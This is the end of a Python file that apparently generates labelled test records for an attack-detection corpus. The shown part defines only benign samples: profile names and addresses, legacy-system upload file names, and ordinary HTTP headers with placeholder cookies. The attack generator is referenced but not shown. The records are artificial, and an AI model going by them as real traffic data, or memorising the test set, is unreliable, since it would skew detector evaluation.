    ("Dmitri Volkov", "Nevsky Prospekt 28, St Petersburg"),
    ("Fatima Zahra", "Technopark, Casablanca"),
    ("Chen Wei", "Zhangjiang Hi-Tech Park, Shanghai"),
    ("Ola Nordmann", "Fornebu 2, Oslo"),
    ("Priya Nair", "Infopark, Kochi"),
]

UPLOAD_NAMES = [
    "weblogic-decommission-plan-v3.docx", "jboss-inventory-2024-05.xlsx", "struts1-action-mappings.csv",
    "log4j-remediation-report-final.pdf", "CUSTREC.cpy.txt", "PAYRL01-joblog-2024-06-02.txt",
    "RSUSR002_FI_users.xlsx", "ST22_dump_TSV_TNEW_PAGE_ALLOC_FAILED.txt", "STMS_import_DEVK912345.log",
    "WRKACTJOB-PRDLPAR2.pdf", "domino-app-catalog.xlsx", "coldfusion-forms-list.csv",
    "ebs-concurrent-requests-export.csv", "wsadmin-jdbc-providers.py", "tomcat9-server.xml.sample",
    "db2-sqlcode-805-bind-notes.md", "informix-onstat-sessions.txt", "sybase-ase-15.7-upgrade.pptx",
    "asp-timesheet-migration-MIG-208.docx", "soap-pi-adapter-wsdl-v2.wsdl", "velocity-user-macros-review.xlsx",
    "liferay-freemarker-theme-port.zip", "ansible-inventory-template.j2", "helm-values-prod.yaml",
    "org-chart-middleware-team.png",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Apache-HttpClient/4.5.13 (Java/1.8.0_401)"),
    ("User-Agent", "Java/1.8.0_401"),
    ("User-Agent", "SAP NetWeaver Application Server (1.0;754)"),
    ("User-Agent", "Jakarta Commons-HttpClient/3.1"),
    ("User-Agent", "libwww-perl/6.72"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "axios/1.6.8"),
    ("Referer", "https://ebs.corp.example/OA_HTML/OA.jsp?OAFunc=OAHOMEPAGE"),
    ("Referer", "https://portal.corp.example/irj/portal?NavigationTarget=navurl://4f3a"),
    ("Referer", "https://wiki.corp.example/display/MIG/WebLogic+to+Tomcat+runbook"),
    ("Referer", "https://intranet.corp.example/cgi-bin/ordertrack.pl?order=88121"),
    ("Referer", "https://timesheet.corp.example/default.asp?week=24"),
    ("X-Api-Version", "2024-06-01"),
    ("SOAPAction", "\"urn:sap-com:document:sap:rfc:functions:BAPI_USER_GET_DETAIL\""),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; JSESSIONID=0000aBcDeFgHiJkL:1a2b3c4d5; sap-usercontext=sap-client=100"),
    ("Cookie", "session=abc123; ASP.NET_SessionId=k2v4x1yq0n5m3f2r1a0b9c8d"),
    ("X-Forwarded-For", "10.20.30.40"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
